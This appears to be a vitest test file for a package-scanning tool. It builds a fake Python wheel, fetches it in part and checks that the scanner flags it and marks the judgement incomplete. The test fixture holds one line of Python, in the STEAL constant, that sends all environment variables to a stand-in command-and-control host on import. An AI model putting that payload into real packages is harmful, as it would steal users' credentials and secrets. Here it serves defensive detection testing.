import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAnalysisPool } from '@weir/analysis';
import type { FetchOutcome, ReleaseFile } from '@weir/model';
import { createFileFetcher, createRequests, unlimitedAllowance } from '@weir/registries';
import { type PypiStandIn, startPypiStandIn } from '@weir/registries/pypi/stand-in';
import { createHttpClient, systemClock } from '@weir/runtime';
import { zip } from '@weir/testkit/archive';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPartFetcher, wheelRank } from './part-fetcher.ts';

const { signal } = new AbortController();
const FILENAME = 'acme_tool-1.0-cp312-cp312-linux_x86_64.whl';
const STEAL = `import os, urllib.request\nurllib.request.urlopen('https://c2.weir.invalid', data=str(dict(os.environ)).encode())\n`;
const INFO = 'acme_tool-1.0.dist-info';
const NATIVE_BYTES = 6_000_000;
const spoolDir = mkdtempSync(join(tmpdir(), 'weir-parts-'));

let standIn: PypiStandIn;
beforeAll(async () => {
  standIn = await startPypiStandIn();
});
afterAll(async () => {
  await standIn[Symbol.asyncDispose]();
  rmSync(spoolDir, { recursive: true });
});

function wheel(): Buffer {
  // What runs lies behind, before and between what does not.
  const members: readonly (readonly [string, string | Buffer])[] = [
    ['acme/_a.so', randomBytes(NATIVE_BYTES)],
    ['acme/__init__.py', 'from . import core\n'],
    ['acme/_b.so', randomBytes(NATIVE_BYTES)],
    ['acme/core.py', STEAL],
    [`${INFO}/METADATA`, 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.0\n'],
  ];
  const record = members.map(([path, content]) => {
    const digest = createHash('sha256').update(content).digest('base64url');
    return `${path},sha256=${digest},${Buffer.byteLength(content)}`;
  });
  const builder = zip();
  for (const [path, content] of members) builder.file(path, content, { method: 0 });
  return builder.file(`${INFO}/RECORD`, [...record, `${INFO}/RECORD,,`, ''].join('\n')).build();
}

/** Uploads a wheel; gives it as a page lists it. */
function upload(version: string, content: Buffer): ReleaseFile {
  const filename = FILENAME.replace('1.0', version);
  standIn.world.upload({ name: 'acme-tool', version, files: [{ filename, content }] });
  const file = standIn.world.find('acme-tool')?.states.at(-1)?.releases.get(version)?.files[0];
  if (!file) throw new TypeError('not uploaded');
  const digests = { sha256: file.sha256 };
  const locator = { url: `${standIn.url}${file.path}` };
  return { filename, variant: '', revision: '', locator, digests, sizeBytes: content.length };
}

async function fetched(file: ReleaseFile, aboveBytes: number): Promise<FetchOutcome> {
  await using http = createHttpClient({ userAgent: 'weir-test' });
  await using requests = createRequests({
    http,
    clock: systemClock,
    allowance: unlimitedAllowance,
    random: () => 0,
  });
  const shared = { requests, clock: systemClock, spoolDir, allowedOrigins: [standIn.url] };
  const whole = createFileFetcher(shared);
  const config = { aboveBytes, sizeBytesMax: 1e9, bytesMax: 1_000_000, requestsMax: 50 };
  return await createPartFetcher({ ...shared, whole, priority: 'live', config }).fetch(
    file.locator,
    signal,
    file,
  );
}

describe('a wheel over the size', () => {
  it('is fetched as far as it can run, and judged by that, incomplete', async () => {
    const file = upload('1.0', wheel());
    const outcome = await fetched(file, 1_000_000);
    if (outcome.kind !== 'fetched') throw new TypeError(outcome.kind);
    await using spooled = outcome.file;
    const present = (spooled.part?.present ?? []).reduce((sum, { start, end }) => sum + end - start, 0);
    expect(spooled).toMatchObject({ sizeBytes: file.sizeBytes, digests: {} });
    expect(present).toBeLessThan(2_000_000);

    await using pool = createAnalysisPool({
      workersMax: 1,
      memoryMbMax: 512,
      deadlineMs: 30_000,
      idleMs: 10,
    });
    const { path, part } = spooled;
    const request = { path, filename: FILENAME, ecosystem: 'pypi' as const, context: null };
    const result = await pool.analyze({ ...request, ...(part && { part }) }, signal);

    expect(result.judgement.complete).toBe(false);
    expect(['suspicious', 'malicious']).toContain(result.judgement.verdict);
    expect(result.artifact).toMatchObject({ sha256: file.digests.sha256, sizeBytes: file.sizeBytes });
    // Nothing is said of what is not there.
    expect(new Set(result.findings.map(({ location }) => location?.file))).toEqual(new Set(['acme/core.py']));
    expect(result.skipped.map(({ file: path_, reason }) => [path_, reason])).toEqual([
      ['acme/_a.so', 'not-fetched'],
      ['acme/_b.so', 'not-fetched'],
    ]);
  });

  it('is fetched whole below the size, and where ranges give nothing', async () => {
    const small = await fetched(upload('1.1', wheel()), 100_000_000);
    const noZip = await fetched(upload('1.2', randomBytes(3_000_000)), 1_000_000);

    for (const outcome of [small, noZip]) {
      if (outcome.kind !== 'fetched') throw new TypeError(outcome.kind);
      await using file = outcome.file;
      expect(file.part).toBeUndefined();
      expect(file.digests).toHaveProperty('sha256');
    }
    expect(readdirSync(spoolDir)).toEqual([]);
  });

  it('asks no host that the registry may not name', async () => {
    const file = { ...upload('1.3', wheel()), locator: { url: 'https://elsewhere.weir.invalid/a.whl' } };

    await expect(fetched(file, 1_000_000)).rejects.toMatchObject({ code: 'LOCATOR_REFUSED' });
  });
});

describe('what can run of a wheel', () => {
  it.each([
    ['acme.pth', 0],
    ['acme-1.dist-info/entry_points.txt', 0],
    ['sitecustomize.py', 0],
    ['acme/__init__.py', 1],
    ['acme.data/scripts/tool', 1],
    ['acme/deep/mod.pyc', 2],
    ['acme/lib.so', null],
    ['acme/model.bin', null],
  ])('%s comes at %s', (path, rank) => {
    expect(wheelRank(path)).toBe(rank);
  });
});
